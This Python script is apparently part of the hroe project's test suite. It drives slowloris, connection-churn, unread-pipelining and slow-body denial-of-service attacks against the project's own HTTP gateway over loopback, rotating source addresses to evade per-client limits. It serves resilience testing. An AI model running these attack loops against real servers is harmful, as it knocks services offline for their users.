"""test/gateway/dos_attack.py: the idle-connection attacks of issue 29 against
an HTTP front end of hroe (hroe-gateway or the in-server workers), for the
bounded denial-of-service tests (test/t_dos_combined.sh) and the benchmark
test/bench/dos.sh. Loopback only.

    dos_attack.py URL MODE --seconds S [--conns N] [--sources A-B] [options]

MODE:
  slowloris  N connections, each sending a request's headers one byte every
             --interval seconds (default 10), never finishing them
  churn      connect, send part of a request, close, again, over N parallel
             loops, at most 200 connections a second in all
  unread     N connections, each sending --pipeline signed requests (--op,
             --body: e.g. a BatchGetItem of large items) pipelined, then
             never reading a byte of the answers
  bodies     N connections, each an unsigned POST announcing --size MiB
             (default 16), sending all of it but the last byte at once, then
             one byte every --interval seconds
The connections come from the loopback addresses --sources (default
127.0.0.2-127.0.0.31), in turn, so that a limit per client address does not
also stop the probe (from 127.0.0.1).  Every mode opens a connection again
when the server closes one, until --seconds have passed; then prints one
line (mode, opened, closed by the server, refused) on stderr and exits 0.
The options are those of sec-http's test/gateway/attack.py, which the
runner prefers when it exists.
"""
import argparse
import asyncio
import ipaddress
import os
import sys
import time
import urllib.parse

sys.path.insert(0, os.path.dirname(os.path.abspath(__file__)))
from raw import sign  # noqa: E402

stats = {"opened": 0, "closed": 0, "refused": 0}


def sources(spec):
    lo, hi = spec.split("-")
    a, b = int(ipaddress.IPv4Address(lo)), int(ipaddress.IPv4Address(hi))
    return [str(ipaddress.IPv4Address(i)) for i in range(a, b + 1)]


SOURCES = []
next_source = [0]


async def open_conn(host, port):
    src = SOURCES[next_source[0] % len(SOURCES)]
    next_source[0] += 1
    try:
        r, w = await asyncio.open_connection(host, port, local_addr=(src, 0))
    except OSError:
        stats["refused"] += 1
        await asyncio.sleep(0.2)
        return None, None
    stats["opened"] += 1
    return r, w


async def wait_closed_or(r, seconds):
    """Sleep up to seconds; True if the server closed the connection meanwhile."""
    try:
        data = await asyncio.wait_for(r.read(65536), timeout=seconds)
    except asyncio.TimeoutError:
        return False
    except OSError:
        return True
    if data == b"":
        return True
    # an answer (e.g. 408 or 400): the server will close; treat it so
    return True


def close(w):
    try:
        w.transport.abort()
    except Exception:
        pass


async def slowloris(a, host, port, deadline):
    head = ("POST / HTTP/1.1\r\nHost: %s:%d\r\nContent-Type: application/x-amz-json-1.0\r\n"
            "X-Amz-Target: DynamoDB_20120810.GetItem\r\nX-Pad: " % (host, port)).encode() + b"a" * 4000
    while time.monotonic() < deadline:
        r, w = await open_conn(host, port)
        if w is None:
            continue
        try:
            for i in range(len(head)):
                w.write(head[i:i + 1])
                if await wait_closed_or(r, min(a.interval, max(0.0, deadline - time.monotonic()))):
                    stats["closed"] += 1
                    break
                if time.monotonic() >= deadline:
                    break
        except OSError:
            stats["closed"] += 1
        close(w)


async def churn(a, host, port, deadline, loops):
    partial = b"POST / HTTP/1.1\r\nHost: x\r\nContent-Length: 100\r\n\r\n{\"Table"
    delay = loops / 200.0
    while time.monotonic() < deadline:
        start = time.monotonic()
        r, w = await open_conn(host, port)
        if w is not None:
            try:
                w.write(partial)
                await w.drain()
            except OSError:
                pass
            close(w)
        rest = delay - (time.monotonic() - start)
        if rest > 0:
            await asyncio.sleep(rest)


def signed_request(a, host, port):
    body = a.body.encode()
    headers = {"content-type": "application/x-amz-json-1.0",
               "x-amz-target": "DynamoDB_20120810." + a.op}
    sign("POST", "%s:%d" % (host, port), body, headers, a.key, a.secret)
    head = "POST / HTTP/1.1\r\n" + "".join("%s: %s\r\n" % (k, v) for k, v in headers.items())
    head += "content-length: %d\r\n\r\n" % len(body)
    return head.encode() + body


async def unread(a, host, port, deadline):
    while time.monotonic() < deadline:
        r, w = await open_conn(host, port)
        if w is None:
            continue
        try:
            req = signed_request(a, host, port)
            for _ in range(a.pipeline):
                w.write(req)
            # never read: wait for the server to give up on us, or the end
            while time.monotonic() < deadline:
                await asyncio.sleep(1.0)
                if w.transport.is_closing() or r.at_eof():
                    stats["closed"] += 1
                    break
        except OSError:
            stats["closed"] += 1
        close(w)


async def bodies(a, host, port, deadline):
    size = int(a.size * 1024 * 1024)
    head = ("POST / HTTP/1.1\r\nHost: %s:%d\r\nContent-Type: application/x-amz-json-1.0\r\n"
            "X-Amz-Target: DynamoDB_20120810.PutItem\r\nContent-Length: %d\r\n\r\n"
            % (host, port, size)).encode()
    chunk = b" " * 65536
    while time.monotonic() < deadline:
        r, w = await open_conn(host, port)
        if w is None:
            continue
        closed = False
        try:
            w.write(head)
            sent = 0
            while sent < size - 1 and time.monotonic() < deadline:
                n = min(len(chunk), size - 1 - sent)
                w.write(chunk[:n])
                sent += n
                await asyncio.wait_for(w.drain(), timeout=max(0.1, deadline - time.monotonic()))
            while time.monotonic() < deadline:
                if await wait_closed_or(r, min(a.interval, max(0.0, deadline - time.monotonic()))):
                    closed = True
                    break
                w.write(b" ")
        except (OSError, asyncio.TimeoutError):
            closed = True
        if closed:
            stats["closed"] += 1
        close(w)


async def run(a):
    u = urllib.parse.urlparse(a.url)
    host, port = u.hostname, u.port
    deadline = time.monotonic() + a.seconds
    tasks = []
    if a.mode == "churn":
        loops = max(1, a.conns)
        tasks = [churn(a, host, port, deadline, loops) for _ in range(loops)]
    else:
        fn = {"slowloris": slowloris, "unread": unread, "bodies": bodies}[a.mode]
        for i in range(a.conns):
            tasks.append(fn(a, host, port, deadline))
    # open the connections over the first second, not in one burst of SYNs
    async def staggered(i, coro):
        await asyncio.sleep(min(1.0, a.seconds / 4) * i / max(1, len(tasks)))
        await coro
    await asyncio.gather(*(staggered(i, t) for i, t in enumerate(tasks)))


def main():
    p = argparse.ArgumentParser()
    p.add_argument("url")
    p.add_argument("mode", choices=["slowloris", "churn", "unread", "bodies"])
    p.add_argument("--seconds", type=float, required=True)
    p.add_argument("--conns", type=int, default=100)
    p.add_argument("--interval", type=float, default=10.0)
    p.add_argument("--sources", default="127.0.0.2-127.0.0.31")
    p.add_argument("--size", type=float, default=16, help="bodies: MiB announced")
    p.add_argument("--pipeline", type=int, default=4, help="unread: requests per connection")
    p.add_argument("--op", default="GetItem")
    p.add_argument("--body", default="{}")
    p.add_argument("--key", default=os.environ.get("AWS_ACCESS_KEY_ID"))
    p.add_argument("--secret", default=os.environ.get("AWS_SECRET_ACCESS_KEY"))
    a = p.parse_args()
    SOURCES.extend(sources(a.sources))
    asyncio.run(run(a))
    print("%s\topened %d\tclosed by the server %d\trefused %d"
          % (a.mode, stats["opened"], stats["closed"], stats["refused"]), file=sys.stderr)
    return 0


if __name__ == "__main__":
    sys.exit(main())
